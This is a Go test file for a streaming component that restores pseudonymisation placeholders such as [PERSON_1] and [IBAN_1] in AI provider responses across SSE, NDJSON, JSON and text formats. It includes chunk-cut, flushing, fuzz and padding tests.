			got := restoreAll(t, m, c.format, strings.NewReader(c.in))
			if got != c.want {
				t.Errorf("\ngot  %q\nwant %q", got, c.want)
			}
			if got1 := restoreAll(t, m, c.format, iotest.OneByteReader(strings.NewReader(c.in))); got1 != got {
				t.Errorf("one-byte reads:\ngot  %q\nwant %q", got1, got)
			}
		})
	}
}

func TestRestorerJSONBodyEveryCut(t *testing.T) {
	m := testMapping()
	body := `{"id":"msg_1","content":[{"type":"text","text":` + jsonStr(modelText) + `}],"stop_reason":"end_turn"}`
	out := restoreAll(t, m, Format{Kind: "json"}, strings.NewReader(body))
	var v struct {
		Content []struct{ Text string }
	}
	if err := json.Unmarshal([]byte(out), &v); err != nil {
		t.Fatalf("output is not JSON: %v\n%s", err, out)
	}
	if want := m.Restore(modelText); v.Content[0].Text != want {
		t.Fatalf("got %q, want %q", v.Content[0].Text, want)
	}
	for cut := 0; cut <= len(body); cut++ {
		if got := restoreAll(t, m, Format{Kind: "json"}, &chunkReader{data: []byte(body), cuts: []int{cut}}); got != out {
			t.Fatalf("cut at %d: %s", cut, got)
		}
	}
}

// TestRestorerLargeEvent: an event larger than the read buffer.
func TestRestorerLargeEvent(t *testing.T) {
	m := testMapping()
	big := strings.Repeat("Lorem ipsum ", 20000) + "[PERSON_1]"
	in := "event: x\ndata: {\"text\":" + jsonStr(big) + "}\n\ndata: [DONE]\n\n"
	out := restoreAll(t, m, Format{Kind: "sse"}, strings.NewReader(in))
	evs := parseSSE(t, out)
	if len(evs) != 2 || evs[1].data != "[DONE]" {
		t.Fatalf("events: %d", len(evs))
	}
	var v struct{ Text string }
	decode(t, evs[0].data, &v)
	if v.Text != m.Restore(big) {
		t.Error("large event not restored")
	}
}

func TestRestorerEventTooLarge(t *testing.T) {
	in := "data: " + strings.Repeat("x", MaxEventSize+10) + "\n\n"
	_, err := io.ReadAll(NewRestorer(testMapping(), Format{Kind: "sse"}, io.NopCloser(strings.NewReader(in))))
	if err != ErrEventTooLarge {
		t.Fatalf("err = %v, want ErrEventTooLarge", err)
	}
}

// TestRestorerFlushesEachEvent: the first event must be readable before the
// upstream sends the second one.
func TestRestorerFlushesEachEvent(t *testing.T) {
	for _, kind := range []string{"sse", "ndjson", "json", "text"} {
		t.Run(kind, func(t *testing.T) {
			pr, pw := io.Pipe()
			r := NewRestorer(testMapping(), Format{Kind: kind}, pr)
			first := `{"response":"Hallo [PERSON_1]"}` + "\n"
			if kind == "sse" {
				first = "data: " + first + "\n"
			}
			go pw.Write([]byte(first))
			buf := make([]byte, 4096)
			n, err := r.Read(buf)
			if err != nil || n == 0 || !bytes.Contains(buf[:n], []byte("Yılmaz")) {
				t.Fatalf("first read: %q %v", buf[:n], err)
			}
			pw.Close()
			r.Close()
		})
	}
}

// eventWriter records each Write and signals the first one.
type eventWriter struct {
	writes []string
	first  chan struct{}
}

func (w *eventWriter) Write(p []byte) (int, error) {
	w.writes = append(w.writes, string(p))
	if len(w.writes) == 1 {
		close(w.first)
	}
	return len(p), nil
}

// TestRestorerWriteTo: io.Copy (which uses WriteTo) gives the same bytes as
// reading, chunked or not, and writes an event before the next one has
// arrived.
func TestRestorerWriteTo(t *testing.T) {
	m := testMapping()
	for _, p := range providers {
		stream := p.build([]string{"Hallo [PER", "SON_1], IBAN [IBAN_1]", "."})
		for _, kind := range []string{"sse", "ndjson", "lines", "json", "text"} {
			var cuts []int
			for c := 3; c < len(stream); c += 7 {
				cuts = append(cuts, c)
			}
			want := restoreAll(t, m, Format{Kind: kind}, &chunkReader{data: []byte(stream), cuts: cuts})
			var got bytes.Buffer
			if _, err := io.Copy(&got, NewRestorer(m, Format{Kind: kind}, io.NopCloser(&chunkReader{data: []byte(stream), cuts: cuts}))); err != nil {
				t.Fatalf("%s/%s: %v", p.name, kind, err)
			}
			if got.String() != want {
				t.Fatalf("%s/%s: WriteTo %q, Read %q", p.name, kind, got.String(), want)
			}
		}
	}
	pr, pw := io.Pipe()
	r := NewRestorer(m, Format{Kind: "sse"}, pr)
	w := &eventWriter{first: make(chan struct{})}
	done := make(chan error, 1)
	go func() { _, err := r.(io.WriterTo).WriteTo(w); done <- err }()
	pw.Write([]byte("data: {\"response\":\"Hallo [PERSON_1]\"}\n\n"))
	<-w.first // before the stream goes on
	if !strings.Contains(w.writes[0], "Yılmaz") {
		t.Fatalf("first write %q", w.writes[0])
	}
	pw.Close()
	if err := <-done; err != nil {
		t.Fatal(err)
	}
}

func FuzzRestorer(f *testing.F) {
	m := testMapping()
	f.Add([]byte(modelText), uint64(0x1234567))
	f.Add([]byte(providers[0].build([]string{"a [PER", "SON_1] b"})), uint64(99))
	f.Add([]byte(providers[1].build([]string{"[IBAN_", "1]"})), uint64(7))
	f.Add([]byte(providers[3].build([]string{"[POSTAL_ADDRESS_1", "]"})), uint64(3))
	f.Add([]byte("data: x\r\n\r\n[[[PERSON_1]"), uint64(1))
	f.Add([]byte("event: d\rdata: {\"t\":\"a [PER\"}\r\rdata: {\"t\":\"SON_1]\"}\r\r"), uint64(5))
	f.Add([]byte("data: {\"t\":\"[IBAN\"}\r\n\r\ndata: x\r\r\n\n"), uint64(3))
	f.Add([]byte(`data: {"delta":{"text":"x PERS"}}`), uint64(2))
	f.Add([]byte("data: {\"delta\":{\"text\":\"x PERS\"}}\n\n"), uint64(2))
	// chat-ui's NUL-padded tokens and keep-alive (Format.Delta "token" below)
	f.Add([]byte(`{"type":"stream","token":"a [PERS\u0000\u0000"}`+"\n"+`{"type":"status","status":"keepAlive"}`+"\n"+
		`{"type":"stream","token":"ON_1]\\u0000\u0000"}`+"\n"), uint64(11))
	// chat-ui's reasoning tokens and Grok's thinking beside the answer (DeltaBy)
	f.Add([]byte(`{"type":"reasoning","subtype":"stream","token":"a [PERS"}`+"\n"+`{"type":"stream","token":"ON_1]"}`+"\n"+
		`{"result":{"token":"[IBAN_","type":true}}`+"\n"+`{"result":{"token":"1]","type":null}}`+"\n"), uint64(13))
	// OpenAI Realtime: a transcript's pieces around an audio delta
	f.Add([]byte(`{"type":"response.audio_transcript.delta","delta":"a [PERS"}`+"\n"+`{"type":"response.audio.delta","delta":"AAAA/PERS"}`+"\n"+
		`{"type":"response.audio_transcript.delta","delta":"ON_1]"}`+"\n"), uint64(17))
	for _, c := range variantCases {
		f.Add([]byte(c.in), uint64(len(c.in)))
		f.Add([]byte(providers[0].build([]string{c.in[:len(c.in)/2], c.in[len(c.in)/2:]})), uint64(5))
	}
	f.Fuzz(func(t *testing.T, data []byte, seed uint64) {
		// Random chunk boundaries from the seed.
		var cuts []int
		s := seed | 1
		for pos := 0; pos < len(data); {
			s ^= s << 13
			s ^= s >> 7
			s ^= s << 17
			pos += 1 + int(s%17)
			cuts = append(cuts, pos)
		}
		// Text format: chunked output equals restoring the whole text.
		got := restoreAll(t, m, Format{Kind: "text"}, &chunkReader{data: data, cuts: cuts})
		want := m.Restore(string(data))
		if got != want {
			t.Fatalf("text: got %q, want %q", got, want)
		}
		// Restore (placeholders and their variants) agrees with the plain
		// reference, on text and on the text as a JSON string (where the
		// decoded text is judged) unless it holds \u escapes, whose
		// characters the restorer does not decode.
		if ref := restoreReference(m, string(data)); want != ref {
			t.Fatalf("text: Restore %q, reference %q", want, ref)
		}
		if esc := jsonStrNoHTML(string(data)); utf8.Valid(data) && !bytes.Contains(esc, []byte(`\u`)) {
			body := append(append([]byte(`{"t":`), esc...), '}')
			jgot := restoreAll(t, m, Format{Kind: "json"}, &chunkReader{data: body, cuts: cuts})
			var v struct{ T string }
			if err := json.Unmarshal([]byte(jgot), &v); err != nil || v.T != want {
				t.Fatalf("json: %s (%v), want the text %q", jgot, err, want)
			}
		}
		if at, ok := m.AppendRestoredBody(nil, data, Format{Kind: "text"}); !ok || string(at) != got {
			t.Fatalf("text: AppendRestoredBody %q (%v), restorer %q", at, ok, got)
		}
		// Event formats: chunking never changes the output, nothing panics,
		// and JSON inputs stay JSON.
		for _, kind := range []string{"sse", "ndjson", "lines", "json"} {
			f := Format{Kind: kind}
			if kind == "ndjson" {
				// chat-ui's, NUL-padded, its reasoning apart by the "type"
				// beside it (DeltaBy); a second path as Grok's result.token
				f.Delta, f.DeltaBy = "token,result.token", "type"
			}
			whole := restoreAll(t, m, f, bytes.NewReader(data))
			if got := restoreAll(t, m, f, &chunkReader{data: data, cuts: cuts}); got != whole {
				t.Fatalf("%s: chunked %q, whole %q", kind, got, whole)
			}
			if kind == "json" {
				if at, ok := m.AppendRestoredBody(nil, data, Format{Kind: kind}); !ok || string(at) != whole {
					t.Fatalf("json: AppendRestoredBody %q (%v), restorer %q", at, ok, whole)
				}
			}
			if kind == "json" && json.Valid(data) && !json.Valid([]byte(whole)) {
				t.Fatalf("json: valid input became invalid: %q", whole)
			}
			// (A bare "PERSON_1" is a placeholder too: variantCases.)
			// Unless the text ends a stream's delta in what could still
			// become one ("x PERS", a backslash): that is held back, and
			// when the delta's event was complete (a blank line after
			// it) it comes later as an event of its own, the same text
			// in two deltas. The body's last event without a blank line
			// holds nothing back.
			if kind == "sse" && !bytes.Contains(data, []byte("[")) && want == string(data) && whole != string(data) && !mayHold(m, data) {
				t.Fatalf("sse: input without placeholders changed: %q → %q", data, whole)
			}
			if !utf8.Valid(data) {
				continue
			}
		}
	})
}

// mayHold reports whether a stream value that ends somewhere in data
// would hold text back (holdStart): JSON string content starts after a
// quote, so a prefix of data ends as such a value would.
func mayHold(m *Mapping, data []byte) bool {
	m.mu.RLock()
	defer m.mu.RUnlock()
	for i := 1; i <= len(data); i++ {
		if m.holdStart(data[:i], true) < i {
			return true
		}
	}
	return false
}

// TestAppendRestoredBody: a whole body restored at once equals what the
// restorer of its format reads; event formats are refused.
func TestAppendRestoredBody(t *testing.T) {
	m := testMapping()
	jsonBody := `{"id":"msg_1","content":[{"type":"text","text":` + jsonStr(modelText) + `}]}`
	cases := []struct {
		name, body string
		format     Format
		ok         bool
	}{
		{"json", jsonBody, Format{Kind: "json"}, true},
		{"json ends in a placeholder's start", `{"text":"[PERSON_1] [IBAN_`, Format{Kind: "json"}, true},
		{"text", modelText, Format{Kind: "text"}, true},
		{"unknown kind is text", modelText, Format{Kind: "xml"}, true},
		{"empty", "", Format{Kind: "json"}, true},
		{"without placeholders", `{"a":"b"}`, Format{Kind: "json"}, true},
		{"sse", "data: [PERSON_1]\n\n", Format{Kind: "sse"}, false},
		{"ndjson", `{"t":"[PERSON_1]"}` + "\n", Format{Kind: "ndjson"}, false},
		{"framed", "12\n[PERSON_1]", Format{Kind: "framed"}, false},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got, ok := m.AppendRestoredBody([]byte("prefix:"), []byte(c.body), c.format)
			if ok != c.ok {
				t.Fatalf("ok = %v, want %v", ok, c.ok)
			}
			if !ok {
				if string(got) != "prefix:" {
					t.Fatalf("refused format appended %q", got)
				}
				return
			}
			if want := "prefix:" + restoreAll(t, m, c.format, strings.NewReader(c.body)); string(got) != want {
				t.Fatalf("got  %q\nwant %q", got, want)
			}
			if strings.Contains(c.body, "[PERSON_1]") && strings.Contains(string(got), "[PERSON_1]") {
				t.Fatalf("placeholder not restored: %q", got)
			}
		})
	}
}

// TestRestorerManyPaths: a stream with many patch paths keeps a bounded
// number of entries and still restores placeholders split at each path.
func TestRestorerManyPaths(t *testing.T) {
	m := testMapping()
	var in, want strings.Builder
	for i := range 200 {
		fmt.Fprintf(&in, "data: {\"p\":\"/message/content/parts/%d\",\"o\":\"append\",\"v\":\"x [PERS\"}\n\n", i)
		fmt.Fprintf(&in, "data: {\"v\":\"ON_1]\"}\n\n")
		fmt.Fprintf(&want, "data: {\"p\":\"/message/content/parts/%d\",\"o\":\"append\",\"v\":\"x \"}\n\n", i)
		fmt.Fprintf(&want, "data: {\"v\":%s}\n\n", jsonStr(`Herr "Yılmaz" \ O'Neil`))
	}
	nr := NewRestorer(m, Format{Kind: "sse"}, io.NopCloser(strings.NewReader(in.String())))
	out, err := io.ReadAll(nr)
	if err != nil {
		t.Fatal(err)
	}
	if string(out) != want.String() {
		t.Errorf("output differs:\n%.300s", out)
	}
	if n := len(nr.(*restorer).holds); n > maxIdleHolds+1 {
		t.Errorf("%d stream entries kept", n)
	}
}

// TestRestorerLastEventCuts: a body whose last event or line ends without
// the blank line or line break after it, with text held back in its
// stream or an earlier one, gives the same output wherever it is cut
// into reads (the last event holds nothing back; earlier held-back text
// is sent at the end).
func TestRestorerLastEventCuts(t *testing.T) {
	m := testMapping()
	bodies := []string{
		"data: {\"t\":\"a [PER\"}",
		"data: {\"t\":\"a [PER\"}\n",
		"data: {\"t\":\"a [PER\"}\r",
		"data: {\"t\":\"a [PER\"}\r\n",
		"data: {\"t\":\"a [PER\"}\n\ndata: {\"t\":\"SON_1]\"}",
		"data: {\"t\":\"a [PER\"}\r\rdata: {\"t\":\"SON_1\"}\r",
		"data: {\"t\":\"a [PER\"}\r\n\r\ndata: {\"t\":\"SON_1\"}\r\n",
		"data: {\"t\":\"a [PER\"}\n\nevent: x\ndata: {\"t\":\"SON\"}\r",
		"data: {\"choices\":[{\"delta\":{\"content\":\"x [PER\"}}]}\n\n: c\r",
		"data: {\"choices\":[{\"delta\":{\"content\":\"x [PER\"}}]}\r\n\r\n: c\r\n",
		"data: {\"choices\":[{\"delta\":{\"content\":\"x [PER\"}}]}\r\r\n",
		"data: {\"choices\":[{\"delta\":{\"content\":\"x [PER\"}}]}\r\r\n\n",
		"data: {\"choices\":[{\"delta\":{\"content\":\"x [PER\"}}]}\n\r",
		"data: {\"choices\":[{\"delta\":{\"content\":\"x PERSON_1\"}}]}\n\ndata: x\r",
		"data: {\"choices\":[{\"delta\":{\"content\":\"x [PER\"}}]}\ndata: {\"choices\":[{\"delta\":{\"content\":\"x [PER\"}}]}",
	}
	for _, b := range bodies {
		for _, kind := range []string{"sse", "ndjson", "lines"} {
			whole := restoreAll(t, m, Format{Kind: kind}, bytes.NewReader([]byte(b)))
			for i := 0; i <= len(b); i++ {
				for j := i; j <= len(b); j++ {
					got := restoreAll(t, m, Format{Kind: kind}, &chunkReader{data: []byte(b), cuts: []int{i, j}})
					if got != whole {
						t.Errorf("%s %q cut %d %d: %q, whole %q", kind, b, i, j, got, whole)
					}
				}
			}
		}
	}
}

// TestNulPad: only NUL escapes end the padding run, not a "u0000" after
// an escaped backslash ("\\u0000" is the text \u0000).
func TestNulPad(t *testing.T) {
	for v, want := range map[string]int{
		`ab`:                 0,
		`ab\u0000`:           6,
		`ab\u0000\u0000`:     12,
		`ab\\u0000`:          0,
		`ab\\\u0000`:         6,
		`\u0000`:             6,
		`ab\u0001`:           0,
		`ab\u0000x`:          0,
		`[PERS\u0000\\u0000`: 0,
		`[PERS\\\\\u0000`:    6,
	} {
		if got := nulPad([]byte(v)); got != want {
			t.Errorf("nulPad(%s) = %d, want %d", v, got, want)
		}
	}
}
